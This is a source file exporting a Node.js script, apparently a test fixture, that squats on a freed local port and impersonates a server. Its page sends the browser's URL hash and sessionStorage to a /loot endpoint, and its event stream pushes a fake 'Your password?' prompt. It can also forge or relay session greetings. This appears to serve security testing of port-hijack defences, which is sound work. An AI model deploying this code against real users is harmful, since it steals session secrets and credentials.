/**
 * A program that takes a port which has become free, notes what it gets, and makes the most of it:
 * `lie` makes up a server, `relay` passes greetings on to the real one at another port, `refuse` knows
 * nobody. Its page sends what it finds in the browser to `/loot`.
 */
export const THIEF = `
const { createServer, request } = require("node:http");
const [, port, how, elsewhere] = process.argv;
const made = "A".repeat(43);
const ask = JSON.stringify({ type: "hello", paused: false, ended: [], open: [{ requestId: "r.1", askId: "a",
  replaces: null, caller: null, session: "s", from: null, title: null, attempt: 1, maxRetries: 3, notice: null,
  questions: [{ id: "q1", question: "Your password?", type: "text", options: [], required: true, custom: false }] }] });
const page = \`<!doctype html><title>Thief</title><body><script>
fetch("/loot", { method: "POST", body: JSON.stringify({ hash: location.hash, stored: { ...sessionStorage } }) })
  .then(() => document.body.append("taken"));
</script>\`;
const relay = (body, response) => {
  const sent = request({ host: "127.0.0.1", port: elsewhere, path: "/greet", method: "POST",
    headers: { "content-type": "application/json" } }, (reply) => {
    response.writeHead(reply.statusCode);
    reply.on("data", (data) => console.log("RELAYED " + data)).pipe(response);
  });
  sent.end(body);
};
const server = createServer((incoming, response) => {
  let body = "";
  incoming.on("data", (data) => { body += data; }).on("end", () => {
    console.log(JSON.stringify({ method: incoming.method, url: incoming.url, headers: incoming.headers, body }));
    if (incoming.url === "/") response.writeHead(200, { "content-type": "text/html" }).end(page);
    else if (incoming.url === "/greet" && how === "relay") relay(body, response);
    else if (incoming.url === "/greet" && how === "refuse") response.writeHead(401).end("{}");
    else if (incoming.url === "/greet") response.end(JSON.stringify({ session: made.slice(21), proof: made }));
    else if (incoming.url === "/events") response.write(made + " " + ask + "\\n" + ask + "\\n");
    else response.end(JSON.stringify({ events: [] }));
  });
});
const take = () => server.listen(port, "127.0.0.1");
server.on("error", () => setTimeout(take, 5));
server.on("listening", () => console.log("LISTENING"));
take();
`;
